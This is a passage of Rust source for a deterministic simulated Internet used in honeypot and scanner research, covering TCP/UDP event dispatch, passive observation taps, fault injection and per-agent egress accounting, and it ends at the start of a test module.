    taps: Vec<(Cidr, Box<dyn FlowTap>)>,
    /// Interval index over `taps`: entries `(start, end, tap_idx)` sorted by
    /// start address, with a running prefix maximum of `end` for early
    /// termination. Rebuilt on `add_tap`. Lookup collects matching tap
    /// indices and dispatches them in insertion order, so adding the index
    /// changes nothing observable.
    tap_index: Vec<(u32, u32, u32)>,
    tap_max_end: Vec<u32>,
    /// Scratch for matching tap indices (avoids a per-packet alloc).
    tap_hits: Vec<u32>,
    pub counters: Counters,
    /// Locally-accumulated observability for the hot send paths; folded into
    /// the installed registry once per phase by [`SimNet::flush_obs`] so the
    /// per-packet cost is a plain field update, not a thread-local lookup.
    obs_conns_peak: u64,
    obs_tcp_bytes: ofh_obs::Histogram,
    obs_udp_bytes: ofh_obs::Histogram,
}

/// Per-agent egress accounting (Appendix A.3's sandboxing audit).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct EgressStats {
    /// TCP connections this agent initiated.
    pub tcp_initiated: u64,
    /// UDP datagrams this agent sent that were *not* replies (the
    /// destination had not previously sent this agent a datagram).
    pub udp_unsolicited: u64,
    /// UDP datagrams sent as replies to a peer that contacted us first.
    pub udp_replies: u64,
}

impl Fabric {
    pub(crate) fn now(&self) -> SimTime {
        self.queue.now()
    }

    pub(crate) fn begin_conn_capture(&mut self) {
        self.conn_capture = Some(Vec::new());
    }

    pub(crate) fn end_conn_capture(&mut self) -> Vec<u64> {
        self.conn_capture.take().unwrap_or_default()
    }

    pub(crate) fn next_ephemeral_port(&mut self) -> u16 {
        let p = self.next_port;
        self.next_port = if p >= 60_999 { 32_768 } else { p + 1 };
        p
    }

    pub(crate) fn set_ttl(&mut self, agent: AgentId, ttl: u8) {
        self.ttls[agent.0 as usize] = ttl;
    }

    pub(crate) fn set_window(&mut self, agent: AgentId, window: u16) {
        self.windows[agent.0 as usize] = window;
    }

    fn hops(src: Ipv4Addr, dst: Ipv4Addr) -> u8 {
        let h = rng::splitmix64(((u32::from(dst) as u64) << 32) | u32::from(src) as u64);
        5 + (h % 25) as u8
    }

    /// Rebuild the tap interval index after registration changes.
    fn rebuild_tap_index(&mut self) {
        self.tap_index = self
            .taps
            .iter()
            .enumerate()
            .map(|(i, (range, _))| (u32::from(range.first()), u32::from(range.last()), i as u32))
            .collect();
        self.tap_index.sort_unstable();
        let mut max_end = 0u32;
        self.tap_max_end = self
            .tap_index
            .iter()
            .map(|&(_, end, _)| {
                max_end = max_end.max(end);
                max_end
            })
            .collect();
    }

    fn observe(
        &mut self,
        src: SockAddr,
        dst: SockAddr,
        transport: Transport,
        kind: FlowKind,
        ttl: u8,
        tcp_flags: u8,
        tcp_window: u16,
        payload: &Payload,
        spoofed: bool,
    ) {
        if self.taps.is_empty() {
            return;
        }
        // Interval lookup: walk backwards from the last range starting at or
        // before `dst`; the prefix maximum of range ends bounds how far back
        // a covering range can sit, so disjoint taps terminate in O(log n).
        let d = u32::from(dst.addr);
        let mut i = self.tap_index.partition_point(|&(start, _, _)| start <= d);
        self.tap_hits.clear();
        while i > 0 {
            i -= 1;
            if self.tap_max_end[i] < d {
                break;
            }
            let (_, end, idx) = self.tap_index[i];
            if end >= d {
                self.tap_hits.push(idx);
            }
        }
        if self.tap_hits.is_empty() {
            return;
        }
        // Registration order, exactly as the linear scan dispatched.
        self.tap_hits.sort_unstable();
        let header = match transport {
            Transport::Tcp => 40,
            Transport::Udp => 28,
        };
        let ip_len = (header + payload.len()).min(u16::MAX as usize) as u16;
        let now = self.queue.now();
        let obs = FlowObservation {
            time: now,
            src: src.addr,
            dst: dst.addr,
            src_port: src.port,
            dst_port: dst.port,
            transport,
            kind,
            ttl: ttl.saturating_sub(Self::hops(src.addr, dst.addr)),
            tcp_flags,
            tcp_window,
            ip_len,
            payload: payload.clone(), // refcount bump, not a byte copy
            spoofed,
        };
        let hits = std::mem::take(&mut self.tap_hits);
        for &idx in &hits {
            self.taps[idx as usize].1.observe(&obs);
        }
        self.tap_hits = hits;
    }

    pub(crate) fn tcp_connect(
        &mut self,
        client: AgentId,
        client_addr: Ipv4Addr,
        src_port: u16,
        dst: SockAddr,
        tag: u64,
    ) -> ConnToken {
        let latency = self.cfg.latency.one_way(client_addr, dst.addr);
        let client_sock = SockAddr::new(client_addr, src_port);
        let id = self.conns.insert(ConnState {
            client,
            client_sock,
            server: None,
            server_sock: dst,
            latency,
            phase: ConnPhase::Connecting,
            client_notified: false,
            tag,
            fifo_fwd: SimTime(0),
            fifo_rev: SimTime(0),
            reset_pending: false,
        });
        if let Some(log) = &mut self.conn_capture {
            log.push(id);
        }
        self.counters.syns_sent += 1;
        self.egress[client.0 as usize].tcp_initiated += 1;
        self.obs_conns_peak = self.obs_conns_peak.max(self.conns.len() as u64);
        let verdict = if self.cfg.faults.is_none() {
            SynVerdict::Deliver
        } else {
            self.fault_syn(dst)
        };
        match verdict {
            SynVerdict::Lost => self.counters.tcp_handshake_drops += 1,
            SynVerdict::RateLimited => self.counters.tcp_rate_limited += 1,
            SynVerdict::Dark => self.counters.churn_suppressed += 1,
            SynVerdict::Deliver => {}
        }
        // Lost and rate-limited SYNs die *in transit*, before any tap at the
        // destination network; dark-host suppression happens at the host, so
        // the wire (and the telescope) still sees the SYN.
        if !matches!(verdict, SynVerdict::Lost | SynVerdict::RateLimited) {
            let ttl = self.ttls[client.0 as usize];
            let window = self.windows[client.0 as usize];
            self.observe(
                client_sock,
                dst,
                Transport::Tcp,
                FlowKind::TcpSyn,
                ttl,
                FlowObservation::SYN,
                window,
                &Payload::empty(),
                false,
            );
        }
        let now = self.queue.now();
        // The timeout backstop always exists; it is ignored if an outcome
        // reaches the client first.
        self.queue
            .schedule(now + self.cfg.syn_timeout, NetEvent::ConnTimeout { conn: id });
        match verdict {
            SynVerdict::Deliver if self.host_present(dst.addr) => {
                self.queue
                    .schedule(now + latency, NetEvent::SynArrive { conn: id });
            }
            SynVerdict::RateLimited => {
                // An intermediary answered with ICMP unreachable: the client
                // experiences a refusal after one round trip.
                self.queue.schedule(
                    now + latency,
                    NetEvent::ConnOutcome {
                        conn: id,
                        accepted: false,
                    },
                );
            }
            _ => {}
        }
        ConnToken(id)
    }

    pub(crate) fn tcp_send(&mut self, sender: AgentId, conn: ConnToken, data: Payload) {
        let Some(c) = self.conns.get(conn.0) else {
            return; // connection already gone (closed/refused)
        };
        if c.reset_pending {
            return; // dying connection: the segment is lost with it
        }
        let to_server = c.client == sender;
        let (latency, src, dst) = if to_server {
            (c.latency, c.client_sock, c.server_sock)
        } else {
            (c.latency, c.server_sock, c.client_sock)
        };
        let service = if to_server { dst } else { src };
        self.counters.tcp_payload_bytes += data.len() as u64;
        self.obs_tcp_bytes.record(data.len() as u64);
        let ttl = self.ttls[sender.0 as usize];
        self.observe(
            src,
            dst,
            Transport::Tcp,
            FlowKind::TcpData,
            ttl,
            FlowObservation::ACK | FlowObservation::PSH,
            0,
            &data,
            false,
        );
        let now = self.queue.now();
        let mut deliver = now + latency;
        if !self.cfg.faults.is_none() {
            let dir = if to_server {
                Direction::Forward
            } else {
                Direction::Reverse
            };
            let (reset, jitter) = self.fault_tcp_segment(service, dir);
            if reset {
                // The connection is torn down mid-stream; both ends learn of
                // it after one latency. The segment itself is gone, but the
                // conn stays in the table until the teardown event so an
                // in-flight `ConnOutcome` (the greeting races the SYN-ACK)
                // still notifies the client before the reset does.
                self.counters.tcp_resets_injected += 1;
                let c = self.conns.get_mut(conn.0).expect("conn checked above");
                c.reset_pending = true;
                self.queue
                    .schedule(now + latency, NetEvent::ResetTeardown { conn: conn.0 });
                return;
            }
            deliver = deliver + jitter;
        }
        // FIFO clamp: a lightly-jittered segment never overtakes a heavily-
        // jittered predecessor within the same connection and direction.
        let c = self.conns.get_mut(conn.0).expect("conn checked above");
        let fifo = if to_server {
            &mut c.fifo_fwd
        } else {
            &mut c.fifo_rev
        };
        if deliver < *fifo {
            deliver = *fifo;
        }
        *fifo = deliver;
        self.queue.schedule(
            deliver,
            NetEvent::DataArrive {
                conn: conn.0,
                to_server,
                data,
            },
        );
    }

    pub(crate) fn tcp_close(&mut self, closer: AgentId, conn: ConnToken) {
        let Some(c) = self.conns.remove(conn.0) else {
            return;
        };
        let peer = if c.client == closer { c.server } else { Some(c.client) };
        if let Some(peer) = peer {
            let now = self.queue.now();
            self.queue.schedule(
                now + c.latency,
                NetEvent::CloseArrive {
                    conn: conn.0,
                    to_agent: peer,
                },
            );
        }
    }

    pub(crate) fn udp_send(
        &mut self,
        sender: AgentId,
        src: SockAddr,
        dst: SockAddr,
        mut payload: Payload,
        spoofed: bool,
    ) {
        self.counters.udp_datagrams_sent += 1;
        self.obs_udp_bytes.record(payload.len() as u64);
        // Egress accounting: a send to the peer whose datagram we are
        // currently handling is a reply; everything else is unsolicited.
        let is_reply = matches!(
            self.current_udp_inbound,
            Some((agent, peer)) if agent == sender && peer.addr == dst.addr
        );
        if is_reply {
            self.egress[sender.0 as usize].udp_replies += 1;
        } else {
            self.egress[sender.0 as usize].udp_unsolicited += 1;
        }
        // Spoofed packets carry the TTL fingerprint of the claimed source's
        // would-be stack only if the attacker bothers; we use a fixed 255.
        let ttl = 255u8;
        let mut jitter = SimDuration::ZERO;
        let mut duplicate = false;
        if !self.cfg.faults.is_none() {
            match self.fault_udp(dst, &mut payload) {
                UdpVerdict::Dropped => {
                    // Lost in transit: no tap sees it — scheduled outages
                    // carve real gaps into the telescope capture.
                    self.counters.udp_datagrams_dropped += 1;
                    return;
                }
                UdpVerdict::Dark => {
                    // Dropped at the churned-dark host; the wire saw it.
                    self.counters.churn_suppressed += 1;
                    self.observe(
                        src,
                        dst,
                        Transport::Udp,
                        FlowKind::UdpDatagram,
                        ttl,
                        0,
                        0,
                        &payload,
                        spoofed,
                    );
                    return;
                }
                UdpVerdict::Deliver { jitter: j, dup } => {
                    jitter = j;
                    duplicate = dup;
                }
            }
        }
        self.observe(
            src,
            dst,
            Transport::Udp,
            FlowKind::UdpDatagram,
            ttl,
            0,
            0,
            &payload,
            spoofed,
        );
        if !self.host_present(dst.addr) {
            return;
        }
        let latency = self.cfg.latency.one_way(src.addr, dst.addr) + jitter;
        let now = self.queue.now();
        if duplicate {
            self.counters.udp_datagrams_duplicated += 1;
            self.queue.schedule(
                now + latency + SimDuration::from_millis(1),
                NetEvent::UdpArrive {
                    src,
                    dst,
                    payload: payload.clone(),
                },
            );
        }
        self.queue
            .schedule(now + latency, NetEvent::UdpArrive { src, dst, payload });
    }

    pub(crate) fn conn_tag(&self, conn: ConnToken) -> Option<u64> {
        self.conns.get(conn.0).map(|c| c.tag).or(match self.closing {
            Some((id, tag, _)) if id == conn.0 => Some(tag),
            _ => None,
        })
    }

    pub(crate) fn conn_peer(&self, conn: ConnToken) -> Option<SockAddr> {
        self.conns
            .get(conn.0)
            .map(|c| c.server_sock)
            .or(match self.closing {
                Some((id, _, peer)) if id == conn.0 => Some(peer),
                _ => None,
            })
    }

    pub(crate) fn set_timer(&mut self, agent: AgentId, delay: SimDuration, token: u64) {
        let now = self.queue.now();
        self.queue
            .schedule(now + delay, NetEvent::Timer { agent, token });
    }

    /// Whether a host exists at `addr` — attached, or still implicit in the
    /// spawner. Occupancy checks (deciding whether a probe will reach a
    /// host at all) must **not** materialize the host; only traffic that is
    /// actually delivered does, in [`SimNet::resolve_host`].
    fn host_present(&self, addr: Ipv4Addr) -> bool {
        self.by_addr.contains_key(&addr)
            || self.spawner.as_ref().is_some_and(|s| s.occupied(addr))
    }

    /// Evaluate the fault schedule for an outbound SYN toward `dst`.
    fn fault_syn(&mut self, dst: SockAddr) -> SynVerdict {
        let now = self.queue.now();
        let seed = self.cfg.seed;
        let rng = &mut self.rng;
        for p in self.cfg.faults.matching(now, dst, Direction::Forward) {
            if churn_dark(seed, dst.addr, now, p.plan.churn_chance, p.plan.churn_period_ms) {
                return SynVerdict::Dark;
            }
            if roll(rng, p.drop_chance_at(now)) {
                return SynVerdict::Lost;
            }
            if roll(rng, p.plan.rate_limit_chance) {
                return SynVerdict::RateLimited;
            }
        }
        SynVerdict::Deliver
    }

    /// Whether a server→client handshake response is lost in transit.
    fn fault_response_lost(&mut self, service: SockAddr) -> bool {
        let now = self.queue.now();
        let rng = &mut self.rng;
        for p in self.cfg.faults.matching(now, service, Direction::Reverse) {
            if roll(rng, p.drop_chance_at(now)) {
                return true;
            }
        }
        false
    }

    /// Faults for one established-connection segment: `(reset, jitter)`.
    /// Segments are never silently dropped (TCP retransmits below the
    /// abstraction line), but a segment crossing a total blackout means the
    /// retransmissions die too — the connection tears down like a reset.
    fn fault_tcp_segment(&mut self, service: SockAddr, dir: Direction) -> (bool, SimDuration) {
        let now = self.queue.now();
        let rng = &mut self.rng;
        let mut jitter_ms = 0u64;
        for p in self.cfg.faults.matching(now, service, dir) {
            if p.drop_chance_at(now) >= 1.0 || roll(rng, p.plan.reset_chance) {
                return (true, SimDuration::ZERO);
            }
            if p.plan.jitter_ms > 0 {
                jitter_ms += rng.gen_range(0..=p.plan.jitter_ms);
            }
        }
        (false, SimDuration::from_millis(jitter_ms))
    }

    /// Faults for one UDP datagram toward `dst`; may corrupt the payload
    /// in place (copy-on-write — payload buffers are shared immutably).
    fn fault_udp(&mut self, dst: SockAddr, payload: &mut Payload) -> UdpVerdict {
        let now = self.queue.now();
        let seed = self.cfg.seed;
        let rng = &mut self.rng;
        let mut jitter_ms = 0u64;
        let mut dup = false;
        let mut corrupt = false;
        for p in self.cfg.faults.matching(now, dst, Direction::Forward) {
            if roll(rng, p.drop_chance_at(now)) {
                return UdpVerdict::Dropped;
            }
            if churn_dark(seed, dst.addr, now, p.plan.churn_chance, p.plan.churn_period_ms) {
                return UdpVerdict::Dark;
            }
            corrupt |= roll(rng, p.plan.corrupt_chance);
            dup |= roll(rng, p.plan.duplicate_chance);
            if p.plan.jitter_ms > 0 {
                jitter_ms += rng.gen_range(0..=p.plan.jitter_ms);
            }
        }
        if corrupt && !payload.is_empty() {
            self.counters.udp_datagrams_corrupted += 1;
            let idx = self.rng.gen_range(0..payload.len());
            let bit = 1u8 << self.rng.gen_range(0..8);
            let mut corrupted = PayloadBuilder::new();
            corrupted.extend_from_slice(payload);
            corrupted[idx] ^= bit;
            *payload = corrupted.freeze();
        }
        UdpVerdict::Deliver {
            jitter: SimDuration::from_millis(jitter_ms),
            dup,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SynVerdict {
    Deliver,
    Lost,
    RateLimited,
    Dark,
}

enum UdpVerdict {
    Dropped,
    Dark,
    Deliver { jitter: SimDuration, dup: bool },
}

#[inline]
fn roll(rng: &mut StdRng, p: f64) -> bool {
    p > 0.0 && rng.gen_bool(p.min(1.0))
}

/// The simulated Internet.
pub struct SimNet {
    fabric: Fabric,
    agents: Vec<Option<Box<dyn Agent>>>,
    addrs: Vec<Ipv4Addr>,
    /// Implicit hosts materialized by first touch (diagnostic; the arena
    /// tests assert untouched addresses never materialize).
    materialized: u64,
    /// Sim-hour the events-per-hour accumulator below belongs to.
    obs_hour: u64,
    /// Events processed so far within `obs_hour`.
    obs_hour_events: u64,
    /// Sorted sim-times (ms) at which a scheduled fault phase opens or
    /// closes. Each crossing records a flight-recorder entry and triggers a
    /// dump, so a run that survives a brownout still leaves a post-mortem
    /// artifact. Empty for fault-free runs — the per-event cost is then a
    /// single always-false bounds check.
    fault_transitions: Vec<u64>,
    /// Index of the next un-crossed entry in `fault_transitions`.
    next_fault_transition: usize,
}

impl SimNet {
    pub fn new(cfg: SimNetConfig) -> Self {
        cfg.faults.validate().expect("invalid fault schedule");
        let rng = StdRng::seed_from_u64(rng::derive_seed(cfg.seed, "ofh-net/fabric"));
        let mut fault_transitions: Vec<u64> = cfg
            .faults
            .phases
            .iter()
            .flat_map(|p| {
                let (from, to) = p.window();
                [from, to]
            })
            .filter(|&t| t > 0 && t < u64::MAX)
            .collect();
        fault_transitions.sort_unstable();
        fault_transitions.dedup();
        SimNet {
            fabric: Fabric {
                queue: EventQueue::new(),
                conns: Slab::new(),
                conn_capture: None,
                next_port: 32_768,
                by_addr: FastMap::default(),
                ttls: Vec::new(),
                windows: Vec::new(),
                egress: Vec::new(),
                current_udp_inbound: None,
                closing: None,
                spawner: None,
                rng,
                cfg,
                taps: Vec::new(),
                tap_index: Vec::new(),
                tap_max_end: Vec::new(),
                tap_hits: Vec::new(),
                counters: Counters::default(),
                obs_conns_peak: 0,
                obs_tcp_bytes: ofh_obs::Histogram::default(),
                obs_udp_bytes: ofh_obs::Histogram::default(),
            },
            agents: Vec::new(),
            addrs: Vec::new(),
            materialized: 0,
            obs_hour: 0,
            obs_hour_events: 0,
            fault_transitions,
            next_fault_transition: 0,
        }
    }

    /// Attach an agent at `addr`. Panics if the address is already occupied —
    /// the population builders guarantee distinct addresses.
    pub fn attach(&mut self, addr: Ipv4Addr, agent: Box<dyn Agent>) -> AgentId {
        assert!(
            !self.fabric.host_present(addr),
            "address {addr} is already occupied"
        );
        let id = self.register(addr, agent);
        let now = self.fabric.queue.now();
        self.fabric.queue.schedule(now, NetEvent::Boot { agent: id });
        id
    }

    /// Install the implicit-population source. Addresses the spawner claims
    /// must be disjoint from every [`Self::attach`]ed address.
    pub fn set_spawner(&mut self, spawner: Box<dyn HostSpawner>) {
        self.fabric.spawner = Some(spawner);
    }

    /// How many implicit hosts have been materialized by first touch so far.
    pub fn materialized_count(&self) -> u64 {
        self.materialized
    }

    /// Allocate the per-agent state rows (the struct-of-arrays side of a
    /// host: TTL, SYN window, egress stats, address map entry).
    fn register(&mut self, addr: Ipv4Addr, agent: Box<dyn Agent>) -> AgentId {
        let id = AgentId(self.agents.len() as u32);
        self.agents.push(Some(agent));
        self.addrs.push(addr);
        self.fabric.ttls.push(64);
        self.fabric.windows.push(65_535);
        self.fabric.egress.push(EgressStats::default());
        self.fabric.by_addr.insert(addr, id);
        id
    }

    /// The agent at `addr`, materializing an implicit host on first touch.
    /// Called from delivery paths only (SYN and UDP arrivals): occupancy
    /// was already decided at send time, so a `None` here means the address
    /// is genuinely empty.
    fn resolve_host(&mut self, addr: Ipv4Addr) -> Option<AgentId> {
        if let Some(id) = self.fabric.by_addr.get(&addr).copied() {
            return Some(id);
        }
        let agent = self.fabric.spawner.as_mut()?.spawn(addr)?;
        self.materialized += 1;
        ofh_obs::live::spawned(1);
        let id = self.register(addr, agent);
        // First touch substitutes for t=0 attachment: run the boot hook
        // inline, before the packet that woke the host is delivered. The
        // spawner contract keeps this equivalent to an eager attach (boot-
        // inert agents only), so no Boot event enters the queue.
        self.with_agent(id, |a, ctx| a.on_boot(ctx));
        Some(id)
    }

    /// Register a passive observation tap over `range`.
    pub fn add_tap(&mut self, range: Cidr, tap: Box<dyn FlowTap>) -> TapId {
        self.fabric.taps.push((range, tap));
        self.fabric.rebuild_tap_index();
        TapId(self.fabric.taps.len() - 1)
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.fabric.queue.now()
    }

    /// Whether any agent is attached at `addr`.
    pub fn is_occupied(&self, addr: Ipv4Addr) -> bool {
        self.fabric.by_addr.contains_key(&addr)
    }

    /// The address an agent is attached at.
    pub fn addr_of(&self, id: AgentId) -> Ipv4Addr {
        self.addrs[id.0 as usize]
    }

    /// The agent attached at `addr`, if any.
    pub fn agent_at(&self, addr: Ipv4Addr) -> Option<AgentId> {
        self.fabric.by_addr.get(&addr).copied()
    }

    /// Number of attached agents.
    pub fn agent_count(&self) -> usize {
        self.agents.len()
    }

    /// Traffic counters so far.
    pub fn counters(&self) -> Counters {
        self.fabric.counters
    }

    /// Connections still open in the fabric (sessions neither side has
    /// closed yet). Diagnostic: the chaos harness checks a fault schedule
    /// does not inflate this beyond the fault-free run's count.
    pub fn live_connections(&self) -> usize {
        self.fabric.conns.len()
    }

    /// Egress accounting for an agent — the Appendix A.3 sandboxing audit:
    /// a well-behaved honeypot has `tcp_initiated == 0` and
    /// `udp_unsolicited == 0` (it only ever *answers*).
    pub fn egress_of(&self, id: AgentId) -> EgressStats {
        self.fabric.egress[id.0 as usize]
    }

    /// Jump the clock forward to `t` (no events may be pending before `t`).
    pub fn advance_to(&mut self, t: SimTime) {
        if let Some(next) = self.fabric.queue.peek_time() {
            assert!(
                next >= t,
                "cannot advance past pending events (next at {next}, target {t})"
            );
        }
        self.fabric.queue.advance_to(t);
    }

    /// Per-event observability bookkeeping: accumulate events into the
    /// current sim-hour, flushing one histogram sample per completed hour.
    /// Keyed on sim-time, so the histogram is deterministic.
    #[inline]
    fn note_event(&mut self) {
        let now = self.fabric.queue.now().0;
        if self.next_fault_transition < self.fault_transitions.len()
            && now >= self.fault_transitions[self.next_fault_transition]
        {
            self.on_fault_transition(now);
        }
        let hour = now / 3_600_000;
        if hour != self.obs_hour {
            if self.obs_hour_events > 0 {
                ofh_obs::observe("net.events_per_hour", self.obs_hour_events);
                ofh_obs::flight(now, "metric.events_per_hour", "net", self.obs_hour_events, 0);
            }
            // Live progress publishes at hour granularity, never per event:
            // the cells stay off the hot path and the reporter's racy reads
            // see monotone counters.
            ofh_obs::live::tick(now, self.fabric.counters.events_processed);
            self.obs_hour = hour;
            self.obs_hour_events = 0;
        }
        self.obs_hour_events += 1;
    }

    /// A scheduled fault phase just opened or closed: record the crossing
    /// and dump this shard's flight ring (cold; at most a handful of
    /// crossings per run).
    #[cold]
    fn on_fault_transition(&mut self, now: u64) {
        while self.next_fault_transition < self.fault_transitions.len()
            && now >= self.fault_transitions[self.next_fault_transition]
        {
            let at = self.fault_transitions[self.next_fault_transition];
            self.next_fault_transition += 1;
            ofh_obs::flight(
                now,
                "fault.window",
                "transition",
                self.next_fault_transition as u64,
                at,
            );
        }
        ofh_obs::dump_flight("fault-window");
    }

    /// Flush the locally-accumulated observability — the partial
    /// events-per-hour sample plus the hot-path accumulators (connection
    /// high-water mark, payload-size histograms). Call after the last
    /// `run_until` of a phase, while the phase's observability target is
    /// still installed. Idempotent: accumulators reset on flush.
    pub fn flush_obs(&mut self) {
        if self.obs_hour_events > 0 {
            ofh_obs::observe("net.events_per_hour", self.obs_hour_events);
            self.obs_hour_events = 0;
        }
        if self.fabric.obs_conns_peak > 0 {
            ofh_obs::gauge_max("net.conns_live", self.fabric.obs_conns_peak);
            self.fabric.obs_conns_peak = 0;
        }
        ofh_obs::observe_hist("net.tcp_payload_bytes", &self.fabric.obs_tcp_bytes);
        self.fabric.obs_tcp_bytes = ofh_obs::Histogram::default();
        ofh_obs::observe_hist("net.udp_payload_bytes", &self.fabric.obs_udp_bytes);
        self.fabric.obs_udp_bytes = ofh_obs::Histogram::default();
    }

    /// Process a single event. Returns `false` when the queue is empty.
    pub fn step(&mut self) -> bool {
        let Some((_, ev)) = self.fabric.queue.pop() else {
            return false;
        };
        self.fabric.counters.events_processed += 1;
        self.note_event();
        self.dispatch(ev);
        true
    }

    /// Run until the queue is empty or the clock passes `deadline`.
    /// Events scheduled exactly at the deadline are processed.
    pub fn run_until(&mut self, deadline: SimTime) {
        while let Some((_, ev)) = self.fabric.queue.pop_before(deadline) {
            self.fabric.counters.events_processed += 1;
            self.note_event();
            self.dispatch(ev);
        }
        if self.fabric.queue.now() < deadline {
            self.fabric.queue.advance_to(deadline);
        }
    }

    /// Run until the event queue drains completely. Only safe for workloads
    /// without self-rearming timers; prefer [`Self::run_until`].
    pub fn run_to_idle(&mut self) {
        while self.step() {}
    }

    /// Recover a concrete agent for result extraction after (or during) a run.
    pub fn agent_downcast_mut<T: Agent>(&mut self, id: AgentId) -> Option<&mut T> {
        let slot = self.agents.get_mut(id.0 as usize)?.as_deref_mut()?;
        let any: &mut dyn Any = slot;
        any.downcast_mut::<T>()
    }

    /// Recover a concrete agent immutably.
    pub fn agent_downcast<T: Agent>(&self, id: AgentId) -> Option<&T> {
        let slot = self.agents.get(id.0 as usize)?.as_deref()?;
        let any: &dyn Any = slot;
        any.downcast_ref::<T>()
    }

    /// Recover a concrete tap for result extraction after a run.
    pub fn tap_downcast_mut<T: FlowTap>(&mut self, id: TapId) -> Option<&mut T> {
        let (_, tap) = self.fabric.taps.get_mut(id.0)?;
        let any: &mut dyn Any = tap.as_mut();
        any.downcast_mut::<T>()
    }

    /// Visit every attached agent of concrete type `T`.
    pub fn for_each_agent<T: Agent>(&self, mut f: impl FnMut(AgentId, &T)) {
        for (i, slot) in self.agents.iter().enumerate() {
            if let Some(agent) = slot.as_deref() {
                let any: &dyn Any = agent;
                if let Some(t) = any.downcast_ref::<T>() {
                    f(AgentId(i as u32), t);
                }
            }
        }
    }

    fn with_agent(&mut self, id: AgentId, f: impl FnOnce(&mut dyn Agent, &mut NetCtx<'_>)) {
        let Some(slot) = self.agents.get_mut(id.0 as usize) else {
            return;
        };
        let Some(mut agent) = slot.take() else {
            return; // re-entrant dispatch cannot happen; defensive
        };
        let mut ctx = NetCtx {
            fabric: &mut self.fabric,
            me: id,
            my_addr: self.addrs[id.0 as usize],
        };
        f(agent.as_mut(), &mut ctx);
        self.agents[id.0 as usize] = Some(agent);
    }

    fn dispatch(&mut self, ev: NetEvent) {
        match ev {
            NetEvent::Boot { agent } => {
                self.with_agent(agent, |a, ctx| a.on_boot(ctx));
            }
            NetEvent::SynArrive { conn } => {
                let Some(c) = self.fabric.conns.get(conn) else {
                    return;
                };
                let (dst_sock, client_sock) = (c.server_sock, c.client_sock);
                let Some(server_id) = self.resolve_host(dst_sock.addr) else {
                    return; // host vanished; client times out
                };
                let mut decision = TcpDecision::Refuse;
                self.with_agent(server_id, |a, ctx| {
                    decision = a.on_tcp_open(ctx, ConnToken(conn), dst_sock.port, client_sock);
                });
                let response_lost = if self.fabric.cfg.faults.is_none() {
                    false
                } else {
                    self.fabric.fault_response_lost(dst_sock)
                };
                if response_lost {
                    self.fabric.counters.tcp_handshake_drops += 1;
                }
                let Some(c) = self.fabric.conns.get_mut(conn) else {
                    return;
                };
                let latency = c.latency;
                let now = self.fabric.queue.now();
                match decision {
                    TcpDecision::Accept { greeting } => {
                        c.server = Some(server_id);
                        c.phase = ConnPhase::Established;
                        if !response_lost {
                            self.fabric.queue.schedule(
                                now + latency,
                                NetEvent::ConnOutcome {
                                    conn,
                                    accepted: true,
                                },
                            );
                            if let Some(banner) = greeting {
                                // Scheduled after the outcome at the same
                                // arrival time: seq order guarantees the
                                // client learns "established" first.
                                self.fabric.tcp_send(server_id, ConnToken(conn), banner);
                            }
                        }
                    }
                    TcpDecision::Refuse => {
                        if !response_lost {
                            self.fabric.queue.schedule(
                                now + latency,
                                NetEvent::ConnOutcome {
                                    conn,
                                    accepted: false,
                                },
                            );
                        }
                    }
                }
            }
            NetEvent::ConnOutcome { conn, accepted } => {
                let Some(c) = self.fabric.conns.get_mut(conn) else {
                    return;
                };
                if c.client_notified {
                    return;
                }
                c.client_notified = true;
                let client = c.client;
                if accepted {
                    self.fabric.counters.conns_established += 1;
                    self.with_agent(client, |a, ctx| a.on_tcp_established(ctx, ConnToken(conn)));
                } else {
                    self.fabric.counters.conns_refused += 1;
                    let c = self.fabric.conns.remove(conn).expect("conn checked above");
                    // Keep tag/peer answerable during the callback so a
                    // retrying client can recover its target.
                    self.fabric.closing = Some((conn, c.tag, c.server_sock));
                    self.with_agent(client, |a, ctx| a.on_tcp_refused(ctx, ConnToken(conn)));
                    self.fabric.closing = None;
                }
            }
            NetEvent::DataArrive {
                conn,
                to_server,
                data,
            } => {
                let Some(c) = self.fabric.conns.get(conn) else {
                    return;
                };
                if c.phase != ConnPhase::Established {
                    return;
                }
                let target = if to_server { c.server } else { Some(c.client) };
                if let Some(target) = target {
                    self.with_agent(target, |a, ctx| a.on_tcp_data(ctx, ConnToken(conn), &data));
                }
            }
            NetEvent::CloseArrive { conn, to_agent } => {
                self.with_agent(to_agent, |a, ctx| a.on_tcp_closed(ctx, ConnToken(conn)));
            }
            NetEvent::ResetTeardown { conn } => {
                let Some(c) = self.fabric.conns.remove(conn) else {
                    return;
                };
                // Keep tag/peer answerable during the callbacks so resilient
                // clients (the scanner's grab retry) can recover the target.
                self.fabric.closing = Some((conn, c.tag, c.server_sock));
                self.with_agent(c.client, |a, ctx| a.on_tcp_reset(ctx, ConnToken(conn)));
                if let Some(server) = c.server {
                    self.with_agent(server, |a, ctx| a.on_tcp_reset(ctx, ConnToken(conn)));
                }
                self.fabric.closing = None;
            }
            NetEvent::ConnTimeout { conn } => {
                let Some(c) = self.fabric.conns.get(conn) else {
                    return;
                };
                if c.client_notified {
                    return; // outcome already delivered; backstop is stale
                }
                let client = c.client;
                let c = self.fabric.conns.remove(conn).expect("conn checked above");
                self.fabric.counters.conn_timeouts += 1;
                self.fabric.closing = Some((conn, c.tag, c.server_sock));
                self.with_agent(client, |a, ctx| a.on_tcp_timeout(ctx, ConnToken(conn)));
                self.fabric.closing = None;
            }
            NetEvent::UdpArrive { src, dst, payload } => {
                let Some(target) = self.resolve_host(dst.addr) else {
                    return;
                };
                self.fabric.current_udp_inbound = Some((target, src));
                self.with_agent(target, |a, ctx| a.on_udp(ctx, dst.port, src, &payload));
                self.fabric.current_udp_inbound = None;
            }
            NetEvent::Timer { agent, token } => {
                self.with_agent(agent, |a, ctx| a.on_timer(ctx, token));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::ip;
    use crate::fault::{FaultPhase, FaultPlan, FaultScope};

    /// A server that accepts on one port with a banner and echoes data back
    /// in upper-case; refuses every other port.
    struct Echo {
        port: u16,
        banner: &'static [u8],
        seen: Vec<Vec<u8>>,
        closed: usize,
        udp_seen: Vec<Vec<u8>>,
    }

    impl Echo {
        fn new(port: u16, banner: &'static [u8]) -> Self {
            Echo {
                port,
                banner,
                seen: Vec::new(),
                closed: 0,
                udp_seen: Vec::new(),
            }
        }
    }

